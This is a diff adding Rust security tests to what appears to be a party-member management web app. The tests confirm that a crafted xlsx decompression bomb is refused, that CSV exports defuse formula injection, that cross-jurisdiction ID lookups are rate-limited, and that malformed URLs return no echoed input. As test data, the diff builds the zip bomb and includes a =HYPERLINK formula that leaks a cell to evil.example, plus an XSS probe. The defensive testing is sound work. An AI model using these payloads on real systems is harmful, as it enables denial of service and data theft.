@@ -843,3 +843,223 @@ async fn an_administrator_completes_the_second_step_in_a_browser() {
     })
     .await;
 }
+
+/// A workbook whose sheet is one enormous cell (a decompression bomb) is refused before it is
+/// unpacked, and the server goes on; so is a file of too many rows or too long a cell.
+#[tokio::test]
+async fn an_import_bomb_is_refused_and_the_server_goes_on() {
+    let app = TestApp::new(Backend::Sqlite).await;
+    let root = app.org(None, "中共测试市委", "committee", "city").await;
+    let (session, csrf) = app.browser("imp", root, "org_staff").await;
+    // the template with its sheet replaced by 64 MB of one cell (a few hundred KB packed)
+    let template = dangjian::member::io::template_xlsx().expect("template");
+    let mut src = zip::ZipArchive::new(std::io::Cursor::new(template)).expect("zip");
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    for i in 0..src.len() {
+        let mut f = src.by_index(i).expect("entry");
+        let name = f.name().to_string();
+        w.start_file(&name, opts).expect("start");
+        if name == "xl/worksheets/sheet1.xml" {
+            use std::io::Write;
+            w.write_all(b"<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>").expect("w");
+            let chunk = vec![b'A'; 1 << 20];
+            for _ in 0..64 {
+                w.write_all(&chunk).expect("w");
+            }
+            w.write_all(b"</t></is></c></row></sheetData></worksheet>")
+                .expect("w");
+        } else {
+            std::io::copy(&mut f, &mut w).expect("copy");
+        }
+    }
+    let bomb = w.finish().expect("finish").into_inner();
+    assert!(bomb.len() < 1024 * 1024, "{} bytes packed", bomb.len());
+    let upload = |file: Vec<u8>, name: &'static str| {
+        let boundary = "----bomb";
+        let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n{csrf}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"mode\"\r\n\r\nall\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n").into_bytes();
+        body.extend_from_slice(&file);
+        body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
+        Request::builder()
+            .method("POST")
+            .uri("/members/import")
+            .header(header::COOKIE, format!("dj_session={session}"))
+            .header(
+                header::CONTENT_TYPE,
+                format!("multipart/form-data; boundary={boundary}"),
+            )
+            .body(Body::from(body))
+            .expect("req")
+    };
+    let (s, _, html) = app.send(upload(bomb, "bomb.xlsx")).await;
+    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(
+        String::from_utf8_lossy(&html).contains("压缩"),
+        "{}",
+        String::from_utf8_lossy(&html)
+    );
+    // a cell of 2,000 characters, and the refused attempts on the record
+    let long = format!(
+        "姓名,身份证号码,所在党支部,入党日期,党员状态\n{},x,x,x,x\n",
+        "长".repeat(2000)
+    );
+    let (s, _, html) = app.send(upload(long.into_bytes(), "long.csv")).await;
+    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(String::from_utf8_lossy(&html).contains("超过1000个字"));
+    assert_eq!(
+        app.count("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'member.import'")
+            .await,
+        2,
+        "refused attempts audited"
+    );
+    // the server answers as before
+    assert_eq!(
+        app.page(&session, "GET", "/members", None).await.0,
+        StatusCode::OK
+    );
+}
+
+/// Member export as CSV: a cell a spreadsheet would run as a formula is written as text.
+#[tokio::test]
+async fn csv_cells_never_start_a_formula() {
+    each_backend(|app| async move {
+        let city = app.org(None, "中共测试市委", "committee", "city").await;
+        let branch = app
+            .org(Some(city), "东关村党支部", "branch", "village")
+            .await;
+        let mut input = member_input(branch, "公式测试", 861);
+        input.work_unit = "=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")".into();
+        input.mobile_destination = Some("@SUM(1+1)".into());
+        input.grid_role = Some("mobile".into());
+        app.member_with(input).await;
+        let staff = app.account("dept", city, "org_staff", None).await;
+        let (s, _, body) = app
+            .send(
+                Request::builder()
+                    .uri("/api/v1/members/export?format=csv")
+                    .header(header::AUTHORIZATION, format!("Bearer {staff}"))
+                    .body(Body::empty())
+                    .expect("req"),
+            )
+            .await;
+        assert_eq!(s, StatusCode::OK);
+        let text = String::from_utf8_lossy(&body).to_string();
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        for rec in r.records() {
+            for cell in rec.expect("row").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+        assert!(
+            text.contains("'=HYPERLINK") && text.contains("'@SUM"),
+            "{text}"
+        );
+    })
+    .await;
+}
+
+/// A number registered outside the caller's subtree is answered neutrally, counted, and after
+/// the limit the caller is held off; every attempt is audited.
+#[tokio::test]
+async fn membership_outside_the_subtree_is_not_an_oracle() {
+    each_backend(|app| async move {
+        let city = app.org(None, "中共测试市委", "committee", "city").await;
+        let a = app
+            .org(Some(city), "中共甲县委", "committee", "county")
+            .await;
+        let b = app
+            .org(Some(city), "中共乙县委", "committee", "county")
+            .await;
+        let ba = app.org(Some(a), "甲村党支部", "branch", "village").await;
+        let bb = app.org(Some(b), "乙村党支部", "branch", "village").await;
+        for i in 0..25u16 {
+            app.member(bb, &format!("乙{i}"), 870 + i).await;
+        }
+        let county_a = app.account("deptA", a, "org_staff", None).await;
+        // the same number inside: named; outside: the neutral sentence
+        let inside = app.member(ba, "甲", 900).await;
+        let _ = inside;
+        let r = app
+            .api(
+                &county_a,
+                "POST",
+                "/api/v1/members",
+                Some(serde_json::to_value(member_input(ba, "甲二", 900)).expect("json")),
+            )
+            .await;
+        assert_eq!(
+            r.1["fields"][0]["message"], "该身份证号码已在本辖区党员库中",
+            "{r:?}"
+        );
+        let mut held = false;
+        for i in 0..25u16 {
+            let (s, e) = app
+                .api(
+                    &county_a,
+                    "POST",
+                    "/api/v1/members",
+                    Some(serde_json::to_value(member_input(ba, "探测", 870 + i)).expect("json")),
+                )
+                .await;
+            if s == StatusCode::TOO_MANY_REQUESTS {
+                held = true;
+                assert!(
+                    i >= dangjian::member::io::OUTSIDE_HITS as u16,
+                    "held off after the limit, not before ({i})"
+                );
+                break;
+            }
+            assert_eq!(
+                (s, e["code"].as_str(), e["message"].as_str()),
+                (
+                    StatusCode::UNPROCESSABLE_ENTITY,
+                    Some("member.registered_elsewhere"),
+                    Some(dangjian::member::store::DUPLICATE_ELSEWHERE)
+                )
+            );
+        }
+        assert!(held, "an account that keeps asking is held off");
+        assert!(
+            app.count("SELECT COUNT(*) AS n FROM audit_log WHERE action = 'member.create_refused'")
+                .await
+                >= 20
+        );
+    })
+    .await;
+}
+
+/// A page whose address or form does not parse answers with the error page, never the
+/// framework's plain text echoing the input.
+#[tokio::test]
+async fn malformed_addresses_get_the_error_page() {
+    let app = TestApp::new(Backend::Sqlite).await;
+    let root = app.org(None, "中共测试市委", "committee", "city").await;
+    let (session, _) = app.browser("dept", root, "org_staff").await;
+    for path in [
+        "/members/%3E%3Cimg%20src%3Dx%3E",
+        "/orgs?id=abc",
+        "/recruits/99999999999999999999999",
+    ] {
+        let (s, h, html) = app.page(&session, "GET", path, None).await;
+        assert!(s.is_client_error(), "{path}: {s}");
+        assert!(
+            h.get(header::CONTENT_TYPE)
+                .and_then(|v| v.to_str().ok())
+                .unwrap_or("")
+                .starts_with("text/html"),
+            "{path}"
+        );
+        assert!(
+            !html.contains("<img src=x>")
+                && !html.contains("Cannot parse")
+                && !html.contains("Invalid URL"),
+            "{path}: {html}"
+        );
+    }
+}
